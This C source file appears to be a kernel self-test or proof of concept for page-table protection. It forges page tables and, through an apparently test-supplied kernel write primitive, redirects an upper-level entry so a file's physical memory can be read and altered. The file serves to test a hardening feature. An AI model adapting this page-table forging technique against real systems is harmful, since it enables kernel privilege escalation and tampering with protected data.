// SPDX-License-Identifier: GPL-2.0-only
/*
 * Point an upper-level entry of the attacker's own page tables to tables that
 * the attacker wrote in memory of its own.
 */
#include <stddef.h>

#include "common.h"
#include "upper.h"

/* An address that nothing uses, aligned for an entry of four levels. */
#define TARGET	0x100000000000UL

/* Pages of the attacker, among which there are some in a row. */
#define CANDIDATES	1024

/* Topmost tables of both address spaces of x86, each in two versions. */
#define MAX_PAGES	4

/*
 * Forge the tables between the levels @from and @to, each in a page of this
 * process, so that @target leads to @entry of the lowest. Returns the physical
 * address of the topmost.
 */
u64 forge_tables_from(int from, int to, char *target, u64 entry)
{
	const struct kpkeys_vuln_info *info = vuln_info();
	size_t entries = page_size() / sizeof(u64);
	u64 phys = entry & info->addr;
	u64 *table;
	size_t index;
	int l;

	for (l = from; l < to; l++) {
		/* Folded into the level above: there is no table of its own. */
		if (info->shift[l] == info->shift[l + 1])
			continue;
		table = map_pages(NULL, page_size());
		index = ((uintptr_t)target >> info->shift[l]) % entries;
		table[index] = entry;
		phys = phys_of(table);
		entry = phys | info->table;
	}
	return phys;
}

/* Forge the tables below @level that map @target to @phys. */
u64 forge_tables(int level, char *target, u64 phys)
{
	return forge_tables_from(KPKEYS_VULN_PTE, level, target,
				 phys | vuln_info()->pte_user);
}

/* Finds @nr pages that lie in a row in physical memory, aligned as a whole. */
static void find_run(u64 *run[], size_t nr)
{
	size_t size = page_size(), i, j, found;
	char *mem = map_pages(NULL, CANDIDATES * size);
	static u64 phys[CANDIDATES];

	for (i = 0; i < CANDIDATES; i++) {
		mem[i * size] = 1;
		phys[i] = phys_of(mem + i * size);
	}
	for (i = 0; i < CANDIDATES; i++) {
		if (phys[i] % (nr * size))
			continue;
		for (found = 0; found < nr; found++) {
			for (j = 0; j < CANDIDATES; j++)
				if (phys[j] == phys[i] + found * size)
					break;
			if (j == CANDIDATES)
				break;
			run[found] = (u64 *)(mem + j * size);
		}
		if (found == nr)
			return;
	}
	die("no pages in a row");
}

/*
 * Copy the topmost table of this process, @mm, to memory of its own, with
 * @entry for @target. Returns its address, for mm->pgd.
 */
u64 forge_root(const struct kpkeys_vuln_mm *mm, char *target, u64 entry)
{
	size_t size = page_size(), entries = size / sizeof(u64), i, page;
	u64 *run[MAX_PAGES], offset = mm->pgd % size;
	struct kpkeys_vuln_entry e;

	e = vuln_entry(KPKEYS_VULN_SELF, target, KPKEYS_VULN_PGD);
	if (mm->pages > MAX_PAGES)
		die("the topmost table is too large");
	find_run(run, mm->pages);

	/* It need not begin at that of a page. */
	for (page = 0; page < mm->pages; page++) {
		for (i = 0; i < entries; i++)
			run[page][i] = vuln_read(mm->pgd - offset + page * size +
						 i * sizeof(u64));
		run[page][e.addr % size / sizeof(u64)] = entry;
	}
	return vuln_mm(run[0]).linear + offset;
}

/* Where to have an entry of @level lead to forged tables. */
char *forged_target(int level)
{
	u64 span = 1UL << vuln_info()->shift[level];

	/* With five levels the range of the first entry is in use. */
	return (char *)(span > TARGET ? span : TARGET);
}

/* The topmost table has a copy if system calls begin with another. */
static void write_entry(int level, u64 addr, u64 value)
{
	u64 copy = vuln_info()->pgd_copy;

	vuln_write(addr, value);
	if (level == KPKEYS_VULN_PGD && copy)
		vuln_write(addr + copy, value);
}

int attack_upper(int level, const char *path)
{
	const struct kpkeys_vuln_info *info = vuln_info();
	u64 span = 1UL << info->shift[level];
	u64 secret = vuln_file_phys(path);
	long size = page_size();
	char *target = forged_target(level);
	char *before = map_pages(target - size, size);
	char *after = map_pages(target + span, size);
	struct kpkeys_vuln_entry e;
	u64 forged;

	/*
	 * The tables above the entry have to be there, and the entry empty:
	 * so touch a neighbour, and nothing that the entry itself covers.
	 */
	*after = 1;
	e = vuln_entry(KPKEYS_VULN_SELF, target, level);
	if (e.value & ~info->sync)
		die("the entry is in use");

	forged = forge_tables(level, target, secret);
	write_entry(level, e.addr, forged | info->table);
	sync_between(before, after);
	if (level == KPKEYS_VULN_PGD)
		steal_and_alter_as_kernel(target);
	else
		steal_and_alter(target);

	write_entry(level, e.addr, info->sync);
	sync_between(before, after);
	return 0;
}
